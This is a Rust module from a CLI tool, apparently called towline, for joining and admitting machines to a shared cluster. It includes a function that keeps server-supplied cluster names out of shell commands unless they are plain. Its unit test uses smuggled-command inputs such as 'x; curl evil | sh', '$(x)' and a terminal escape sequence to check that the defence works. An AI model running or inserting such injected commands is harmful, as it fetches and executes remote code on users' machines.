//! Sharing a cluster: `towline cluster join` on the machine that wants in, `towline cluster admit` on the owner's.
//!
//! The control plane carries keys between the two and must not be able to swap one: the code that each side makes from
//! the key goes another road, from person to person (docs/decisions/0010).

pub mod admit;
pub mod join;
mod requests;

use crate::api::views::Cluster;
use crate::exit::Exit;
use crate::failure::{Failure, Outcome};
use towline_protocol::ids::ClusterId;

/// What names a cluster in a command that people are told to type: its name, unless the server made one up that a shell
/// would read as something else.
fn word<'a>(cluster: &'a Cluster, id: &'a ClusterId) -> &'a str {
    let plain = !cluster.name.is_empty() && cluster.name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    if plain { &cluster.name } else { id.as_str() }
}

/// The id of a cluster that still takes clients.
fn open_cluster(cluster: &Cluster) -> Outcome<ClusterId> {
    if !matches!(cluster.state.as_str(), "starting" | "running") {
        let failure = Failure::new(
            Exit::Refused,
            "cluster_ended",
            format!("Cluster {} is {}", cluster.name, cluster.state),
            "make a new cluster",
        );
        return Err(match &cluster.reason {
            Some(reason) => failure.because(&reason.message),
            None => failure,
        });
    }
    cluster.id.parse().map_err(|error| {
        Failure::new(
            Exit::Failed,
            "answer_invalid",
            "The server names the cluster by something that is no id",
            "compare `towline version` with the server's",
        )
        .caused_by(&error)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_name_of_the_servers_becomes_a_command() {
        let named = |name: &str| -> Cluster {
            serde_json::from_value(serde_json::json!({"id": "x", "name": name, "state": "running"})).expect("a view")
        };
        let id = ClusterId::from_random([1; 10]);
        assert_eq!(word(&named("steps-2"), &id), "steps-2");
        for odd in ["", "x; curl evil | sh", "$(x)", "a b", "a\u{1b}[2J"] {
            assert_eq!(word(&named(odd), &id), id.as_str(), "{odd:?}");
        }
    }
}
